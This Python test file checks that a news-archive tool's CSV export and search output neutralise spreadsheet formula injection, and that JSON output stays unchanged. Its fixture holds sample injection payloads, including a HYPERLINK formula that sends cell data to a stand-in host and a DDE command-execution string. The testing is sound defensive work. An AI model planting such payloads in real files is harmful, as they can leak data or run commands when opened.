"""CSV written by newsarchive opens in a spreadsheet as text: no cell begins like a formula (OWASP, CSV
injection), in `export --format csv` and in `search --format csv` alike; JSON lines stay exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsarchive import Article
from newsarchive.cli import main
from newsarchive.store import Archive
from newsarchive.store.reports import FORMULA_STARTS, spreadsheet_safe

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?x="&A1,"ממשלה")',
    "subtitle": "+972-3-555 ממשלה",
    "author": "-2+3+cmd|' /C calc'!A0",
    "section": "@SUM(1+1)",
    "tag": "\tממשלה",
    "body": "\r=1+1 ממשלה עם עוד מילים",
}


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "archive.db"
    with Archive(path) as archive:
        archive.store(
            Article(
                url="https://x.co.il/hostile",
                site="x",
                headline=HOSTILE["headline"],
                subtitle=HOSTILE["subtitle"],
                authors=[HOSTILE["author"]],
                section=HOSTILE["section"],
                tags=[HOSTILE["tag"]],
                paragraphs=[HOSTILE["body"]],
            )
        )
        archive.store(
            Article(url="https://x.co.il/plain", site="x", headline="ממשלה חדשה", paragraphs=["ממשלה 3-2"])
        )
    return path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_the_one_rule(tmp_path: Path) -> None:
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "x") == "'" + start + "x"
    assert spreadsheet_safe("ממשלה -2") == "ממשלה -2"
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None


def test_export_csv_neutralises_formula_cells(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    rows = {r["url"]: r for r in _rows(target.open(encoding="utf-8", newline="").read())}
    _no_cell_starts_a_formula(list(rows.values()))
    hostile = rows["https://x.co.il/hostile"]
    assert hostile["headline"] == "'" + HOSTILE["headline"]
    assert hostile["subtitle"] == "'" + HOSTILE["subtitle"]
    assert hostile["authors"] == "'" + HOSTILE["author"]
    assert hostile["section"] == "'" + HOSTILE["section"]
    assert hostile["tags"] == "'" + HOSTILE["tag"]
    assert hostile["body"] == "'" + HOSTILE["body"]
    assert rows["https://x.co.il/plain"]["body"] == "ממשלה 3-2"  # only a cell's first character counts


def test_search_csv_neutralises_formula_cells(db: Path) -> None:
    result = CliRunner().invoke(main, ["search", "ממשלה", "--db", str(db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {r["url"]: r for r in _rows(result.stdout)}
    _no_cell_starts_a_formula(list(rows.values()))
    assert rows["https://x.co.il/hostile"]["headline"] == "'" + HOSTILE["headline"]
    assert rows["https://x.co.il/hostile"]["authors"] == "'" + HOSTILE["author"]
    assert rows["https://x.co.il/hostile"]["section"] == "'" + HOSTILE["section"]
    assert rows["https://x.co.il/plain"]["headline"] == "ממשלה חדשה"


def test_json_lines_stay_exact(db: Path) -> None:
    with Archive(db, readonly=True) as archive:
        out = io.StringIO()
        archive.export("jsonl", out)
    records = {r["url"]: r for r in map(json.loads, out.getvalue().splitlines())}
    hostile = records["https://x.co.il/hostile"]
    assert hostile["headline"] == HOSTILE["headline"]
    assert hostile["authors"] == [HOSTILE["author"]]
    assert hostile["tags"] == [HOSTILE["tag"]]
